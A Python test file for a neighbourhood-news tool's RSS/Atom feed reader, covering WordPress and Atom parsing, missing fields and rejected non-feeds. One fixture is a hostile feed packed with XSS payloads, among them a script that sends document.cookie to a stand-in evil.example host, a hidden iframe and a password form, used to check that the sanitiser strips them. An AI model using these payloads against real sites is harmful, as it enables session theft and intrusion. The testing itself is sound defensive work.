"""A wijk's own website feed read from the bytes we fetched (`tools/feedbron.py`): what residents
get of each bericht, and what the wijk's editors are told when the feed can't be used."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from bovenwijks.tools.feedbron import Beeld, Feed, FeedBericht, GeenFeed, lees_feed

REL = 'rel="nofollow noopener noreferrer"'
FEED_URL = "https://kruiskamp.example/feed/"

# A WordPress feed as WordPress writes it: content:encoded in CDATA, dc:creator, the excerpt
# in description with "[…]", a featured image as an enclosure (one post) or only as the first
# <img> in the content (the other), and WordPress.com's stats pixel.
WORDPRESS = b"""<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:atom="http://www.w3.org/2005/Atom"
	xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
	xmlns:slash="http://purl.org/rss/1.0/modules/slash/"
	>

<channel>
	<title>Wijkvereniging De Kruiskamp</title>
	<atom:link href="https://kruiskamp.example/feed/" rel="self" type="application/rss+xml" />
	<link>https://kruiskamp.example</link>
	<description>Samen wonen in de Kruiskamp</description>
	<lastBuildDate>Thu, 12 Nov 2026 19:04:11 +0000</lastBuildDate>
	<language>nl-NL</language>
	<sy:updatePeriod>hourly</sy:updatePeriod>
	<sy:updateFrequency>1</sy:updateFrequency>
	<generator>https://wordpress.org/?v=6.8</generator>
	<item>
		<title>Snoeiochtend in het Kruiskamppark &#8211; doe je mee?</title>
		<link>https://kruiskamp.example/2026/11/12/snoeiochtend-kruiskamppark/</link>
		<comments>https://kruiskamp.example/2026/11/12/snoeiochtend-kruiskamppark/#respond</comments>
		<dc:creator><![CDATA[Anja de Vries]]></dc:creator>
		<pubDate>Thu, 12 Nov 2026 19:04:11 +0000</pubDate>
		<category><![CDATA[Groen]]></category>
		<guid isPermaLink="false">https://kruiskamp.example/?p=1284</guid>
		<description><![CDATA[Op zaterdag 21 november snoeien we samen de struiken langs het Kruiskamppark. Handschoenen en snoeischaren liggen klaar bij het buurthuis. Koffie &#038; koek zijn er ook [&#8230;]]]></description>
		<content:encoded><![CDATA[<!-- wp:paragraph -->
<p>Op zaterdag 21 november snoeien we samen de struiken langs het <a href="/plekken/kruiskamppark/">Kruiskamppark</a>. Handschoenen en snoeischaren liggen klaar bij het buurthuis.</p>
<!-- /wp:paragraph -->

<!-- wp:image {"id":1290,"sizeSlug":"large"} -->
<figure class="wp-block-image size-large"><img loading="lazy" decoding="async" width="1024" height="683" src="https://kruiskamp.example/wp-content/uploads/2026/11/park-1024x683.jpg" alt="Het Kruiskamppark in de herfst" class="wp-image-1290" srcset="https://kruiskamp.example/wp-content/uploads/2026/11/park-1024x683.jpg 1024w, https://kruiskamp.example/wp-content/uploads/2026/11/park-300x200.jpg 300w" sizes="(max-width: 1024px) 100vw, 1024px" /><figcaption class="wp-element-caption">Het park in de herfst</figcaption></figure>
<!-- /wp:image -->

<!-- wp:paragraph -->
<p>Koffie &amp; koek zijn er ook. Vragen? Mail <a href="mailto:groen@kruiskamp.example">de groenwerkgroep</a>.</p>
<!-- /wp:paragraph -->
<img alt="" border="0" src="https://pixel.wp.com/b.gif?host=kruiskamp.example&#038;blog=1234&#038;post=1284&#038;subd=kruiskamp&#038;ref=&#038;feed=1" width="1" height="1" />]]></content:encoded>
		<enclosure url="https://kruiskamp.example/wp-content/uploads/2026/11/snoeiochtend-uitgelicht.jpg" length="184213" type="image/jpeg" />
		<wfw:commentRss>https://kruiskamp.example/2026/11/12/snoeiochtend-kruiskamppark/feed/</wfw:commentRss>
		<slash:comments>0</slash:comments>
	</item>
	<item>
		<title>Nieuw bestuur gekozen</title>
		<link>https://kruiskamp.example/2026/11/03/nieuw-bestuur/</link>
		<dc:creator><![CDATA[Redactie]]></dc:creator>
		<pubDate>Tue, 03 Nov 2026 08:15:00 +0100</pubDate>
		<guid isPermaLink="false">https://kruiskamp.example/?p=1270</guid>
		<description><![CDATA[Op de ledenvergadering is een nieuw bestuur gekozen.]]></description>
		<content:encoded><![CDATA[<p><img src="/wp-content/uploads/2026/11/bestuur.jpg" alt="Het nieuwe bestuur op de trap van het buurthuis" width="800" height="533"></p>
<p>Op de ledenvergadering van 2 november is een nieuw bestuur gekozen: Fatima, Kees en Sanne.</p>]]></content:encoded>
	</item>
</channel>
</rss>
"""


def test_a_wordpress_feed_gives_the_wijk_its_berichten():
    feed = lees_feed(WORDPRESS, FEED_URL)

    assert (feed.site, feed.link, feed.overgeslagen) == ("Wijkvereniging De Kruiskamp", "https://kruiskamp.example", ())
    snoeien, bestuur = feed.berichten
    assert snoeien == FeedBericht(
        guid="https://kruiskamp.example/?p=1284",
        titel="Snoeiochtend in het Kruiskamppark – doe je mee?",
        datum=datetime(2026, 11, 12, 19, 4, 11, tzinfo=UTC),
        link="https://kruiskamp.example/2026/11/12/snoeiochtend-kruiskamppark/",
        html=(
            '<p>Op zaterdag 21 november snoeien we samen de struiken langs het <a href="https://kruiskamp.example/plekken/kruiskamppark/" '
            f"{REL}>Kruiskamppark</a>. Handschoenen en snoeischaren liggen klaar bij het buurthuis.</p>\n"
            "<figure><figcaption>Het park in de herfst</figcaption></figure>\n"
            f'<p>Koffie &amp; koek zijn er ook. Vragen? Mail <a href="mailto:groen@kruiskamp.example" {REL}>de groenwerkgroep</a>.</p>'
        ),
        samenvatting=(
            "Op zaterdag 21 november snoeien we samen de struiken langs het Kruiskamppark. Handschoenen en snoeischaren liggen klaar"
            " bij het buurthuis. Koffie & koek zijn er ook …"
        ),
        auteur="Anja de Vries",
        beeld=Beeld(url="https://kruiskamp.example/wp-content/uploads/2026/11/snoeiochtend-uitgelicht.jpg", alt=""),
    )
    # Its date was written in winter time (+0100): the same moment, in UTC.
    assert bestuur.datum == datetime(2026, 11, 3, 7, 15, tzinfo=UTC)
    assert bestuur.html == "<p>Op de ledenvergadering van 2 november is een nieuw bestuur gekozen: Fatima, Kees en Sanne.</p>"
    # No enclosure: the first image of the post, its relative address made absolute.
    assert bestuur.beeld == Beeld(
        url="https://kruiskamp.example/wp-content/uploads/2026/11/bestuur.jpg", alt="Het nieuwe bestuur op de trap van het buurthuis"
    )


def test_the_same_feed_read_twice_gives_the_same_berichten():
    assert lees_feed(WORDPRESS, FEED_URL) == lees_feed(WORDPRESS, FEED_URL)
    assert lees_feed(ZONDER_GUID, FEED_URL) == lees_feed(ZONDER_GUID, FEED_URL)


# An Atom feed with relative links everywhere, resolved against xml:base (the feed's, then the
# entry's), and a summary in plain text with a "<" that is a character.
ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/" xml:base="https://schothorst.example/buurt/">
  <title type="html">Buurtnieuws &lt;em&gt;Schothorst&lt;/em&gt;</title>
  <subtitle>Van en voor de buurt</subtitle>
  <link rel="alternate" type="text/html" href="./"/>
  <link rel="self" href="nieuws.atom"/>
  <id>tag:schothorst.example,2026:buurtnieuws</id>
  <updated>2026-11-14T10:00:00+01:00</updated>
  <entry xml:base="nieuws/2026/">
    <title>Nieuwe bankjes op het Hogeweg-plein</title>
    <link rel="alternate" href="bankjes.html"/>
    <id>tag:schothorst.example,2026:bankjes</id>
    <published>2026-11-14T10:00:00+01:00</published>
    <updated>2026-11-14T12:30:00+01:00</updated>
    <author><name>Buurtteam Schothorst</name><email>buurtteam@schothorst.example</email></author>
    <summary type="text">Er staan vier nieuwe bankjes &lt; 50 meter van de bushalte.</summary>
    <content type="xhtml">
      <div xmlns="http://www.w3.org/1999/xhtml">
        <p>Er staan vier nieuwe bankjes. Zie <a href="../../plein/">het plein</a> en <a href="#kaart">de kaart</a>.</p>
        <p><img src="bankjes.jpg" alt="Twee van de vier bankjes"/></p>
      </div>
    </content>
    <media:content url="bankjes-groot.jpg" medium="image" width="1600" height="1067"/>
  </entry>
  <entry>
    <title type="text">Oliebollenactie</title>
    <link href="https://schothorst.example/buurt/oliebollen"/>
    <id>tag:schothorst.example,2026:oliebollen</id>
    <updated>2026-11-10T09:00:00Z</updated>
    <content type="text">Bestel uiterlijk 20 december.
Ophalen op 31 december bij het buurthuis.

De opbrengst is voor de speeltuin.</content>
  </entry>
</feed>
"""


def test_an_atom_feed_with_relative_links_resolved_by_xml_base():
    feed = lees_feed(ATOM, "https://schothorst.example/buurt/nieuws.atom")

    assert (feed.site, feed.link) == ("Buurtnieuws Schothorst", "https://schothorst.example/buurt/")
    bankjes, oliebollen = feed.berichten
    assert bankjes.guid == "tag:schothorst.example,2026:bankjes"
    assert bankjes.link == "https://schothorst.example/buurt/nieuws/2026/bankjes.html"
    assert bankjes.datum == datetime(2026, 11, 14, 9, 0, tzinfo=UTC)  # published, not updated
    assert bankjes.auteur == "Buurtteam Schothorst"
    assert bankjes.html == (
        '<p>Er staan vier nieuwe bankjes. Zie <a href="https://schothorst.example/buurt/plein/" '
        f'{REL}>het plein</a> en <a href="https://schothorst.example/buurt/nieuws/2026/#kaart" {REL}>de kaart</a>.</p>'
    )
    assert bankjes.samenvatting == "Er staan vier nieuwe bankjes < 50 meter van de bushalte."
    assert bankjes.beeld == Beeld(url="https://schothorst.example/buurt/nieuws/2026/bankjes-groot.jpg", alt="")
    # Plain text content: its paragraphs and lines kept, as HTML; only updated: that date.
    assert oliebollen.html == (
        "<p>Bestel uiterlijk 20 december.<br>Ophalen op 31 december bij het buurthuis.</p>\n<p>De opbrengst is voor de speeltuin.</p>"
    )
    assert (
        oliebollen.samenvatting
        == "Bestel uiterlijk 20 december. Ophalen op 31 december bij het buurthuis. De opbrengst is voor de speeltuin."
    )
    assert oliebollen.datum == datetime(2026, 11, 10, 9, 0, tzinfo=UTC)
    assert (oliebollen.auteur, oliebollen.beeld) == (None, None)


# An RSS feed of a hand-made site: no guids; one item has no link either; an author written
# the RSS way; no channel title.
ZONDER_GUID = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<rss version="2.0">
<channel>
<link>http://www.buurthuis-de-horst.example/</link>
<description>Nieuws van buurthuis De Horst</description>
<item>
<title>Caf\xe9 De Horst weer open</title>
<link>http://www.buurthuis-de-horst.example/nieuws/cafe-open.html</link>
<pubDate>Mon, 09 Nov 2026 14:00:00 GMT</pubDate>
<description>Vanaf maandag is het caf\xe9 weer elke middag open. Zie &lt;a href="menukaart.html"&gt;de menukaart&lt;/a&gt;.</description>
</item>
<item>
<title>Kerstmarkt</title>
<pubDate>Sun, 01 Nov 2026 10:00:00 GMT</pubDate>
<author>info@buurthuis-de-horst.example (Marja Jansen)</author>
<description>&lt;p&gt;Op 19 december is de kerstmarkt.&lt;/p&gt;</description>
</item>
</channel>
</rss>
"""


def test_without_a_guid_the_link_or_else_title_and_date_are_its_identity():
    feed = lees_feed(ZONDER_GUID, "https://www.buurthuis-de-horst.example/nieuws.rss")

    cafe, kerstmarkt = feed.berichten
    assert feed.site == "www.buurthuis-de-horst.example"
    assert cafe.titel == "Café De Horst weer open"
    assert cafe.guid == "http://www.buurthuis-de-horst.example/nieuws/cafe-open.html"
    # Without xml:base a relative link starts from the item's own page, where it was written.
    assert cafe.html == (
        'Vanaf maandag is het café weer elke middag open. Zie <a href="http://www.buurthuis-de-horst.example/nieuws/menukaart.html" '
        f"{REL}>de menukaart</a>."
    )
    assert kerstmarkt.link is None
    assert kerstmarkt.guid.startswith("sha256:")
    assert kerstmarkt.html == "<p>Op 19 december is de kerstmarkt.</p>"
    assert kerstmarkt.auteur == "Marja Jansen"
    # Another title or another date is another bericht.
    for changed in (
        ZONDER_GUID.replace(b"<title>Kerstmarkt", b"<title>Kerstmarkt 2026"),
        ZONDER_GUID.replace(b"Sun, 01 Nov", b"Mon, 02 Nov"),
    ):
        assert lees_feed(changed, "https://www.buurthuis-de-horst.example/nieuws.rss").berichten[1].guid != kerstmarkt.guid


# Entries that can't be shown: no title, no date, a date nobody can read, too much HTML, a guid twice.
ONVOLLEDIG = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Wijkraad Vathorst</title><link>https://vathorst.example/</link>
<item><title>Inloopavond wijkraad</title><link>https://vathorst.example/inloopavond</link><guid>v-1</guid>
<pubDate>Wed, 11 Nov 2026 18:00:00 +0100</pubDate><description>Iedereen is welkom.</description></item>
<item><link>https://vathorst.example/zonder-titel</link><guid>v-2</guid><pubDate>Wed, 11 Nov 2026 18:00:00 +0100</pubDate></item>
<item><title></title><guid>v-3</guid><pubDate>Wed, 11 Nov 2026 18:00:00 +0100</pubDate></item>
<item><title>Zwerfafvalprikken</title><link>https://vathorst.example/prikken</link><guid>v-4</guid></item>
<item><title>Kerstborrel</title><guid>v-5</guid><pubDate>binnenkort</pubDate></item>
<item><title>Nesten</title><guid>v-6</guid><pubDate>Wed, 11 Nov 2026 18:00:00 +0100</pubDate><description>NESTEN</description></item>
<item><title>Inloopavond wijkraad (herhaald)</title><guid>v-1</guid><pubDate>Thu, 12 Nov 2026 18:00:00 +0100</pubDate></item>
</channel></rss>
""".replace(b"NESTEN", b"&lt;div&gt;" * 25_000)


def test_entries_that_cant_be_shown_are_left_out_and_the_editors_told_why():
    feed = lees_feed(ONVOLLEDIG, "https://vathorst.example/feed.xml")

    assert [b.titel for b in feed.berichten] == ["Inloopavond wijkraad"]
    assert feed.overgeslagen == (
        "een bericht zonder titel (https://vathorst.example/zonder-titel)",
        # An RSS guid is the item's address unless it says isPermaLink="false".
        "een bericht zonder titel (https://vathorst.example/v-3)",
        "‘Zwerfafvalprikken’: een bericht zonder datum",
        "‘Kerstborrel’: een bericht met een datum die niet te lezen is (binnenkort)",
        # 25,000 nested elements: cleaning them would take seconds.
        "‘Nesten’: een bericht van meer dan 100 kB, te groot om over te nemen",
        "‘Inloopavond wijkraad (herhaald)’: een tweede bericht met dezelfde guid (https://vathorst.example/v-1); het eerste is gebruikt",
    )


# A feed made to hurt: code in every form, a frame, and a tracking pixel from another host.
VIJANDIG = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>Buurtbelangen <script>alert("titel")</script></title><link>javascript:alert(1)</link>
<item>
<title><![CDATA[Buurtfeest <img src=x onerror=alert("titel")>]]></title>
<link>javascript:alert("link")</link>
<guid isPermaLink="false">feest-2026</guid>
<pubDate>Sat, 14 Nov 2026 12:00:00 +0000</pubDate>
<description><![CDATA[<p onmouseover="alert('samenvatting')">Kom naar het buurtfeest!</p><script>steel()</script>]]></description>
<content:encoded><![CDATA[<p>Kom naar het <a href="javascript:alert(document.cookie)">buurtfeest</a>!</p>
<script>document.write('<img src="https://evil.example/' + document.cookie + '">')</script>
<iframe src="https://evil.example/frame.html" width="0" height="0"></iframe>
<p><img src="https://tracker.example/open.gif?u=123" width="1" height="1" alt=""><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="alert('img')"></p>
<p><img src="/wp-content/uploads/2025/06/buurtfeest-2025.jpg" alt="Het buurtfeest van vorig jaar" onerror="alert('foto')"></p>
<p style="background:url(javascript:alert(1))" onclick="alert('p')">Met <a href="JAVASCRIPT:alert(2)">muziek</a> en <a href="data:text/html;base64,PHNjcmlwdD4=">eten</a>.</p>
<form action="https://evil.example/"><input name="wachtwoord"></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<svg><script>alert('svg')</script></svg><style>body{display:none}</style>]]></content:encoded>
</item>
</channel></rss>
"""


def test_a_hostile_feed_leaves_nothing_that_runs_nor_the_pixel():
    feed = lees_feed(VIJANDIG, "https://buurtbelangen.example/feed/")

    (feest,) = feed.berichten
    assert feest.html == (f"<p>Kom naar het <a {REL}>buurtfeest</a>!</p>\n<p>Met <a {REL}>muziek</a> en <a {REL}>eten</a>.</p>")
    for trace in (
        "script",
        "onerror",
        "onclick",
        "onmouseover",
        "javascript",
        "iframe",
        "evil.example",
        "tracker.example",
        "data:",
        "style",
    ):
        assert trace not in feest.html.lower()
        assert trace not in feest.samenvatting.lower()
        assert trace not in feest.titel.lower()
    assert feest.titel == "Buurtfeest"
    assert feest.samenvatting == "Kom naar het buurtfeest!"
    # Not the pixel that comes first, nor the data: image: the photo, to be downloaded.
    assert feest.beeld == Beeld(
        url="https://buurtbelangen.example/wp-content/uploads/2025/06/buurtfeest-2025.jpg", alt="Het buurtfeest van vorig jaar"
    )
    assert feest.link is None
    assert (feed.site, feed.link) == ("Buurtbelangen", None)


GEEN_FEED = [
    # (id, what the server sent, what the editors are told)
    (
        "web-page",
        b"<!DOCTYPE html>\n<html lang='nl'><head><title>Wijkvereniging De Kruiskamp</title></head><body><h1>Welkom</h1></body></html>",
        "dit is geen RSS- of Atom-feed maar een webpagina (HTML)",
    ),
    (
        "web-page-that-names-its-feed",
        b'<!doctype html><html><head><link rel="alternate" type="application/rss+xml" title="Kruiskamp &raquo; Feed" href="/feed/">'
        b"</head><body><p>Welkom</p></body></html>",
        "dit is geen RSS- of Atom-feed maar een webpagina (HTML); die pagina noemt zelf deze feed: https://kruiskamp.example/feed/"
        " (zet dat adres bij `feed`)",
    ),
    (
        "empty-feed",
        b'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Kruiskamp</title>'
        b"<link>https://kruiskamp.example/</link><description>Nog niets</description></channel></rss>",
        "de feed bevat geen berichten",
    ),
    ("empty-atom", b'<feed xmlns="http://www.w3.org/2005/Atom"><title>Leeg</title></feed>', "de feed bevat geen berichten"),
    ("garbage", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\xff\xfe", "de feed is onleesbaar: het is geen RSS of Atom, en ook geen geldige XML (fout op regel 2)"),
    ("other-xml", b'<?xml version="1.0"?><urlset><url><loc>https://kruiskamp.example/</loc></url></urlset>', "de feed is onleesbaar: het is XML, maar geen RSS of Atom"),
    ("nothing", b"", "de feed is onleesbaar: het antwoord was leeg"),
    (
        "only-unusable-entries",
        b'<rss version="2.0"><channel><title>K</title><item><description>Geen titel</description></item></channel></rss>',
        "de feed bevat geen bruikbare berichten: een bericht zonder titel (het 1e in de feed)",
    ),
]  # fmt: skip


@pytest.mark.parametrize("body, message", [row[1:] for row in GEEN_FEED], ids=[row[0] for row in GEEN_FEED])
def test_what_is_no_feed_is_refused_with_a_reason(body, message):
    with pytest.raises(GeenFeed) as refused:
        lees_feed(body, "https://kruiskamp.example/")
    assert str(refused.value) == message


def test_a_body_that_names_a_local_file_is_read_as_the_bytes_it_is(tmp_path):
    # feedparser opens a bare string as a file name: a server must not make us read our own files.
    local = tmp_path / "feed.xml"
    local.write_bytes(WORDPRESS)
    with pytest.raises(GeenFeed, match="onleesbaar"):
        lees_feed(str(local).encode(), FEED_URL)


def test_a_feed_with_an_xml_mistake_feedparser_reads_past_is_read():
    broken = WORDPRESS.replace(b"</channel>\n</rss>", b"")
    assert [b.titel for b in lees_feed(broken, FEED_URL).berichten] == [b.titel for b in lees_feed(WORDPRESS, FEED_URL).berichten]


def test_a_feed_is_a_value():
    feed = lees_feed(WORDPRESS, FEED_URL)
    assert isinstance(feed, Feed)
    assert isinstance(feed.berichten, tuple)
    with pytest.raises(AttributeError):
        feed.site = "Anders"  # type: ignore[misc]
